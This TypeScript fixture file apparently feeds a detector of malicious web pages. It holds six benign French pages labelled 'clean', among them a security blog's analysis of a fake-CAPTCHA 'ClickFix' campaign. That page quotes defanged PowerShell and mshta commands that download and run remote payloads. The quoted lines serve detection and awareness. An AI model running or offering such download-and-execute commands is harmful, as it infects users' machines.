import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, fileRoute, pe, zip } from '../parts/e-bin.js';
import { doc, legalFooter, cookieBanner } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-clean-club-foot-inscription-paiement',
  label: 'clean',
  kind: 'association-payment',
  url: 'https://fc-sarreguemines-jeunes.fr/inscriptions-2024-2025',
  body: doc({ title: 'Inscriptions saison 2024-2025 - FC Sarreguemines Jeunes', body: `<header style="background:#002f6c;color:#fff;padding:14px 18px"><b>FC Sarreguemines</b> · École de foot</header><main class="wrap" style="padding:24px 18px;max-width:680px;background:#fff"><h1>Inscriptions 2024-2025</h1><p>Cotisation U7 à U13 : 120 € (licence FFF, survêtement et goûters inclus). Pass'Sport accepté (50 € de réduction).</p><form method="post" action="/inscriptions-2024-2025/valider"><label>Nom et prénom de l'enfant</label><input name="enfant"><label>Catégorie</label><select name="cat"><option>U7</option><option>U9</option><option>U11</option><option>U13</option></select><label>Code Pass'Sport (facultatif)</label><input name="passsport"><label>Responsable légal — téléphone</label><input name="tel"><button class="btn" style="background:#002f6c">Payer la cotisation (HelloAsso)</button></form><p>Renseignements : Jean-Marc, 06 12 45 78 90 (après 18 h)</p></main>` }),
},
  {
  id: 'zx-clean-it-help-powershell-universite',
  label: 'clean',
  kind: 'it-help-commands',
  url: 'https://dsi.univ-rennes.fr/faq/windows/reinitialiser-cache-dns',
  body: doc({ title: 'Vider le cache DNS et réinitialiser la pile réseau - DSI Université', css: 'pre{background:#1e1e1e;color:#dcdcdc;padding:12px;overflow:auto}', body: `<header style="background:#222;color:#fff;padding:14px 18px"><b>Université de Rennes</b> · Direction du numérique · FAQ</header><main class="wrap" style="padding:24px 18px;background:#fff"><h1>Problème d'accès à eduroam ou à l'ENT : réinitialiser le réseau</h1><p>Ouvrez <b>Windows PowerShell (administrateur)</b> : clic droit sur le bouton Démarrer puis « Terminal (admin) ». Exécutez les commandes suivantes :</p><pre>ipconfig /flushdns
netsh winsock reset
netsh int ip reset
Restart-Computer</pre><p>Vous pouvez copier les commandes avec le bouton ci-dessous.</p><button class="btn" onclick="navigator.clipboard.writeText('ipconfig /flushdns\\nnetsh winsock reset\\nnetsh int ip reset')">Copier</button>
<h2>Attention</h2><p>Le support informatique ne vous demandera jamais de coller une commande reçue par e-mail ou affichée sur un site externe « pour prouver que vous êtes humain ».</p><p>Assistance : 02 23 23 XX XX · assistance@univ-rennes.fr</p></main>` }),
},
  {
  id: 'zx-clean-blog-secu-clickfix-analyse',
  label: 'clean',
  kind: 'security-blog-quoting',
  url: 'https://www.cert-entreprises-blog.fr/2024/10/analyse-campagne-faux-captcha',
  body: doc({ title: 'Analyse : la campagne des faux CAPTCHA qui font coller des commandes PowerShell', css: 'pre{background:#f4f4f4;border-left:4px solid #c00;padding:10px;white-space:pre-wrap}article{background:#fff;padding:24px;max-width:780px;margin:20px auto}', body: `<article><p style="font-size:12px">Publié le 21 octobre 2024 · Équipe réponse à incident</p><h1>Faux CAPTCHA : anatomie d'une campagne « ClickFix » visant des sites WordPress français</h1><p>Depuis septembre, nous observons des sites de commerces locaux compromis affichant une fausse vérification « Je ne suis pas un robot ». La page copie dans le presse-papiers une commande que la victime est invitée à coller dans la boîte Exécuter (Win+R) :</p><pre>powershell -w hidden -nop -c "iex(iwr 'hxxps://cdn-verif[.]example/v.ps1' -UseBasicParsing)" # Je ne suis pas un robot - reCAPTCHA ID: 884-122</pre><p>Le script télécharge ensuite Lumma Stealer. Variante avec mshta :</p><pre>mshta hxxps://site-compromis[.]be/cdn-cgi/c.hta # ✅ « Je suis humain »</pre><h2>Indicateurs de compromission</h2><ul><li>cdn-verif[.]example</li><li>91.215.85[.]147</li></ul><h2>Recommandations</h2><p>Bloquer la boîte Exécuter par GPO pour les postes utilisateurs, sensibiliser : aucun CAPTCHA légitime ne demande d'appuyer sur Win+R.</p></article>` }),
},
  {
  id: 'zx-clean-doc-linux-curl-install',
  label: 'clean',
  kind: 'it-help-commands',
  url: 'https://docs.nextcloud-hebergement.fr/installation/client-linux',
  body: doc({ title: 'Installer le client de synchronisation sous Linux - Documentation', css: 'pre{background:#263238;color:#eceff1;padding:12px}', body: `<main class="wrap" style="padding:24px 18px;background:#fff"><h1>Installer le client de synchronisation sous Linux</h1><p>Sous Debian/Ubuntu, ajoutez le dépôt officiel puis installez le paquet :</p><pre>sudo add-apt-repository ppa:nextcloud-devs/client
sudo apt update
sudo apt install nextcloud-desktop</pre><p>Ou téléchargez l'AppImage :</p><pre>curl -LO https://github.com/nextcloud-releases/desktop/releases/download/v3.14.1/Nextcloud-3.14.1-x86_64.AppImage
chmod +x Nextcloud-3.14.1-x86_64.AppImage</pre><p>Vérifiez la somme SHA-256 publiée sur la page des versions avant d'exécuter le fichier.</p></main>` }),
},
  {
  id: 'zx-clean-support-mot-de-passe-oublie',
  label: 'clean',
  kind: 'password-help-article',
  url: 'https://assistance.orange.fr/ordinateurs-peripheriques/installer-et-utiliser/utiliser-la-messagerie-mail-orange/mot-de-passe/modifier-ou-recuperer-le-mot-de-passe-de-votre-compte-orange_143458-694560',
  body: doc({ title: 'Récupérer le mot de passe de votre compte Orange - Assistance Orange', body: `<header style="background:#000;color:#ff7900;padding:14px 18px"><b>orange</b> <span style="color:#fff">Assistance</span></header><main class="wrap" style="padding:24px 18px;background:#fff"><h1>Modifier ou récupérer le mot de passe de votre compte Orange</h1><ol><li>Rendez-vous sur la page d'identification de <b>orange.fr</b>.</li><li>Cliquez sur « Mot de passe oublié ? ».</li><li>Saisissez votre adresse mail Orange ou votre numéro de mobile.</li><li>Recevez un code par SMS et choisissez un nouveau mot de passe.</li></ol><p><a class="btn" style="background:#ff7900" href="https://login.orange.fr/">Accéder à l'identification</a></p><p><b>Bon à savoir :</b> Orange ne vous demande jamais votre mot de passe par e-mail. Les messages vous informant que « votre boîte est pleine » et vous invitant à vous reconnecter sont frauduleux.</p></main>` }),
},
  {
  id: 'zx-clean-news-quebec-interac-fraude',
  label: 'clean',
  kind: 'news-quoting-lure',
  url: 'https://www.ledevoir-regional.ca/economie/fraude-virement-interac-hausse',
  body: doc({ lang: 'fr-CA', title: 'Fraude au virement Interac : hausse marquée au Québec', css: 'article{background:#fff;max-width:760px;margin:20px auto;padding:24px}', body: `<article><h1>Fraude au virement Interac : hausse marquée au Québec</h1><p>Le Centre antifraude du Canada signale une recrudescence de textos annonçant « Vous avez reçu 420,00 $ ». Le lien mène à une page où l'on choisit sa banque, puis à une copie d'AccèsD ou de la page de connexion de la Banque Nationale.</p><p>« Un vrai virement Interac se dépose dans votre application bancaire », rappelle Desjardins. Les victimes doivent communiquer avec leur institution et le CAFC au 1 888 495-8501.</p></article>` }),
},
];
